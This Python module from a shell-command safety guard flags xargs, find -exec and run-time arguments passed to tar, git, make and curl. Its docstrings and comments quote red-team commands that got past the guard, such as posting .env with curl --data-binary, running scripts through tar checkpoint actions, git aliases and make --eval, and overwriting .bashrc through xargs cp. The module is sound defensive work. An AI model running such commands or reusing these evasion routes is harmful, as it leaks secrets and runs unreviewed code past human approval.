"""Words a program gets only when it runs: what ``xargs`` reads (appended, or in place of ``-I``'s mark) and the
names ``find -exec`` finds.

guard19 found these ran a script the guard never read: ``echo run.sh | xargs -I% sh %`` (the mark as the script),
``echo ./run.sh | xargs -I{} {}`` and ``find . -name run.sh -exec {} \\;`` (as the program), and programs whose options
run code given those options by the input: ``xargs git < a.txt`` (``-c alias.z=!sh run.sh z``), ``xargs make``
(``--eval=…``), ``xargs find .`` (``-exec sh run.sh ;``), ``xargs awk -f``, ``xargs npm run``. The guard cannot read
the words, so a program named by them, and a program below that runs code by its arguments, is asked about.
"""

from __future__ import annotations

import posixpath
from typing import TYPE_CHECKING

from macrohard.safety import rules_data as R
from macrohard.safety import session

if TYPE_CHECKING:
    from macrohard.safety.commands import Analyzer
    from macrohard.safety.shellparse import SimpleCommand

# programs an argument can make run code (an option naming a command, a script, a makefile, a config; a subcommand
# that runs scripts); shells and interpreters are read by ``scripts.run_code``
ARG_RUNNERS = R.WRAPPERS | R.PRIVILEGE | R.SHELLS | R.INTERPRETERS | frozenset({
    "git", "make", "gmake", "cmake", "ctest", "meson", "ninja", "find", "awk", "gawk", "mawk", "nawk", "sed", "npm",
    "npx", "yarn", "pnpm", "bun", "deno", "vim", "vi", "nvim", "ex", "view", "emacs", "less", "more", "man", "gdb",
    "cargo", "rustc", "go", "gcc", "cc", "clang", "g++", "c++", "clang++", "ld", "pip", "pip3", "pytest", "tox", "nox",
    "docker", "podman", "kubectl", "tmux", "screen", "sqlite3", "psql", "mysql", "wget", "sort", "ssh", "scp", "sftp",
    "rsync", "tar", "zip", "script", "expect", "source", ".", "eval", "parallel", "busybox", "java", "mvn", "gradle",
    "bazel", "dotnet", "gem", "bundle", "rake", "composer", "uv", "poetry", "pipx", "dpkg", "apt", "apt-get", "rpm",
    "tclsh", "wish", "m4", "ed", "patch", "install", "openssl", "gpg", "git-shell"})


def xargs(an: Analyzer, prog: str, argv: list[str], cmd: SimpleCommand) -> None:
    """``xargs [OPTIONS] PROG ARGS``: ``argv`` is ``PROG ARGS``; what xargs reads is spliced in when it runs."""
    from macrohard.safety.scripts import replaced

    name = posixpath.basename(argv[0])
    if prog == "xargs":
        an.r.programs.add(name)
    mark = replaced(cmd)
    if mark and mark in argv[0]:
        an.r.add("dynamic", f"{prog} runs a program named by what it reads ({argv[0][:40]}), only known when it runs")
    elif name in ARG_RUNNERS - R.SHELLS - R.INTERPRETERS and (not mark or any(mark in a for a in argv[1:])):
        an.r.add("dynamic", f"{prog} gives {name} words it reads when it runs, which may be options that run code "
                            f"({name} reads options from them); write the arguments on the line")
    elif name in _COPIERS and not any(a in ("-t", "--target-directory") or a.startswith(("--target-directory=", "-t"))
                                      for a in argv[1:]) and (mark and mark in argv[-1] or not mark and len(argv) > 1):
        # `echo .bashrc | xargs cp evil.txt`: the last word, where cp writes, is one it reads (guard20)
        an.r.add("dynamic", f"{prog} gives {name} the path it writes to from what it reads when it runs; name it, "
                            f"or use {name} -t DIR")
    if name in ("cp", "mv", "rsync"):  # guard40: a whole folder it reads the name of, into a start-up folder
        from macrohard.safety import copies

        copies.from_input(an, name, argv, mark, cmd.cwd)


def fed(an: Analyzer, rest: list[str], text: str, cwd: str | None, depth: int) -> None:
    """``xargs [OPTIONS] PROG ARGS`` whose input is known (a literal here-string, ``echo``/``printf`` of literal
    words before it in a pipe): judged as PROG with ARGS and the words it reads (rt51: `xargs curl <<< "-s
    --data-binary @.env URL"` and `printf '%s\\n' … | xargs curl` posted .env, approved)."""
    import shlex

    from macrohard.safety.argv import unwrap

    argv = unwrap("xargs", rest)
    if not argv or any(a.startswith(("-I", "-i", "--replace")) for a in rest[:len(rest) - len(argv)]):
        return
    try:
        words = shlex.split(text)
    except ValueError:
        words = text.split()
    an.line(shlex.join([*argv, *words]), depth + 1, cwd)


def printed(argv: list[str], expanded: set[str]) -> str | None:
    """What ``echo WORDS`` or ``printf FORMAT WORDS`` of literal words prints; None when it is not known."""
    from macrohard.safety.shellwords import printf_text

    if not argv or expanded & set(argv[1:]):
        return None
    if argv[0] == "echo":
        words = argv[1:]
        while words and words[0] in ("-n", "-e", "-E"):
            words = words[1:]
        return " ".join(words) + "\n"
    if argv[0] == "printf" and len(argv) > 1 and argv[1] != "-v":
        return printf_text(argv[1], argv[2:])
    return None


def found(an: Analyzer, sub: list[str], option: str = "-exec") -> None:
    """``find … -exec PROG ARGS ;``: a found name as the program, or given to a program that runs code by its
    arguments; ``-execdir PROG`` of such a program (it reads the found folder's files: its Makefile, its scripts)."""
    name = posixpath.basename(sub[0]) if sub else ""
    if sub and "{}" in sub[0]:
        an.r.add("dynamic", "find runs each file it finds as a program; name the program")
    elif name in ARG_RUNNERS - R.SHELLS - R.INTERPRETERS - {"source", "."} and any("{}" in a for a in sub[1:]) and \
            not (option == "-exec" and _input_files(name, sub[1:])):
        an.r.add("dynamic", f"find gives {name} the names it finds, which may be read as options that run code")
    elif option in ("-execdir", "-okdir") and (name in ARG_RUNNERS or "/" in sub[0]):
        an.r.add("dynamic", f"find {option} runs {name} in each folder it finds, on files the guard did not read; "
                            "run it in each folder by name")


_COPIERS = frozenset({"cp", "mv", "ln", "install", "rsync", "dd"})
# programs whose words after their script are only input files: a found name there is a file to read, never code
_FILE_OPERANDS = frozenset({"sed", "awk", "gawk", "mawk", "nawk"})


def _input_files(name: str, args: list[str]) -> bool:
    """``find docs -name '*.md' -exec sed -i 's/a/b/' {} +``: each ``{}`` is a word of its own after the script and
    after a word that is not an option (so not an option's value). ``-exec`` gives names that begin with a starting
    point, and find takes no starting point that begins with ``-`` (it reads it as a test), so the name is never an
    option either: it can only be a file the program reads."""
    if name not in _FILE_OPERANDS or any("{}" in a and a != "{}" for a in args) or args[:1] == ["{}"]:
        return False
    return all(args[i - 1] != "{}" and not args[i - 1].startswith("-") and any(
        not a.startswith("-") for a in args[:i]) for i, a in enumerate(args) if a == "{}")


# per program, options that take the next word as their value: a dynamic word after one is that value, not an
# option (`git commit -m "$(cat msg)"`); a flag is not listed (`tar -v "$x"` still reads "$x" as options)
_DOCKER = frozenset({"-v", "--volume", "-w", "--workdir", "-e", "--env", "--name", "--mount", "-p", "--publish",
                     "--network", "-u", "--user", "--label", "-l", "--platform", "-t", "--tag", "--env-file"})
_AWK = frozenset({"-v", "-F"})
_VALUE_OPTIONS = {
    "git": frozenset({"-m", "--message", "-b", "-B", "-C", "--author", "--since", "--until", "--grep", "--format",
                      "--pretty", "-F", "--file", "--date"}),
    "docker": _DOCKER, "podman": _DOCKER,
    "find": frozenset({"-name", "-iname", "-path", "-ipath", "-wholename", "-newer", "-type", "-regex", "-iregex",
                       "-maxdepth", "-mindepth", "-size", "-mtime", "-mmin", "-user", "-group", "-perm"}),
    "make": frozenset({"-j", "--jobs", "-l"}), "gmake": frozenset({"-j", "--jobs", "-l"}),
    "tar": frozenset({"-f", "--file"}),
    "awk": _AWK, "gawk": _AWK, "mawk": _AWK, "nawk": _AWK,
    "pytest": frozenset({"-k", "-m"}), "sort": frozenset({"-k", "-t", "-o"}),
    "wget": frozenset({"-O", "--output-document", "-P", "-U", "--header"}),
    "curl": frozenset({"-o", "--output", "-X", "--request", "-A", "--user-agent", "-u", "--user", "-w", "--write-out",
                       "-m", "--max-time", "--connect-timeout", "--retry", "-e", "--referer", "--url"}),
}


# the programs `unknown` reads: wrappers, privilege tools and shells pass their words to a program judged as itself;
# interpreters, eval, source and `.` run code, which is read as such
# rt51: a network program whose options send a file: `mapfile -t a < args.txt; curl "${a[@]}"`, `curl $(cat
# args.txt)` posted .env (the words were written to a file a step before), approved
_OPTION_SENDERS = frozenset({"curl"})

_OPTION_RUNNERS = ARG_RUNNERS - R.SHELLS - R.INTERPRETERS - R.WRAPPERS - R.PRIVILEGE - {"eval", "source", "."}


def unknown(an: Analyzer, prog: str, args: list[str], cmd: SimpleCommand, depth: int = 0) -> None:
    """``tar -cf a.tar $(cat opts) x``, ``find . $x``, ``make "$(cat f)"``: words only known when the command runs,
    given to a program whose options run code. The lead (wave 20) ran ``echo '--checkpoint-action=exec=./run.sh' >
    opts`` one step and ``tar … $(cat opts) …`` the next: every step approved, the script ran; a value set one step
    (``o=--checkpoint-action=…``) is unknown the next, so ``tar … $o`` did the same. An unquoted expansion becomes any
    number of words; a quoted one that begins the word may begin with ``-``. Either is asked, unless it comes after
    ``--`` (not for find, whose expression follows it, nor make, whose ``SHELL=…`` does) or is the value of an
    option that takes one (``git commit -m "$(cat msg)"``)."""
    if not cmd.open_words or prog not in _OPTION_RUNNERS | _OPTION_SENDERS or prog == "cmake" and args[:1] == ["-E"]:
        return  # `cmake -E env … CMD`: CMD is judged as itself (runners.cmake_tool)
    if prog in _OPTION_SENDERS and (an.defining or an.args_known):
        return  # a function's `curl "$@"`: judged where it is called, with the call's words (safety.shellstate)
    open_words = cmd.open_words
    if prog in _OPTION_SENDERS:
        # rt52: a word read from a file when it runs (`read -r o < opt.txt; curl -s "$o" URL`, `while read u; do
        # curl -sI "$u"; done < urls.txt`) is judged with the file's text; any other word only known when it runs,
        # one quoted word too (`o=$(python3 -c …)`, a value set a step before) or an address whose value splits after
        # a literal start (`http://h/$r`), may be an option that sends a file (rt51 took these for addresses)
        from macrohard.safety import filewords

        judged = filewords.judge(an, prog, args, cmd, depth)
        open_words = {w: splits for w, splits in cmd.open_words.items() if w not in judged}
    for i, word in enumerate(args):
        if word == "--" and prog not in ("find", "make", "gmake"):  # find's expression and make's VAR=value follow it
            return
        splits = open_words.get(word)
        if splits is None or not splits and i and args[i - 1] in _VALUE_OPTIONS.get(prog, ()):
            continue
        if an.exact and (known := session.candidates(word, an.exact)) is not None and not any(
                k.startswith(("-", "+")) for k in known):  # `F=a.txt` a step before: one word, never an option (guard25)
            continue
        what = "send a file (--data-binary @FILE, -K FILE)" if prog in _OPTION_SENDERS else "run code"
        an.r.add("dynamic", f"{prog} gets {word[:40]}, only known when it runs, which may be "
                            f"{'several words, ' if splits else ''}options that {what} ({prog} reads options "
                            "from its arguments); write the arguments on the line, or put them after --")
        return
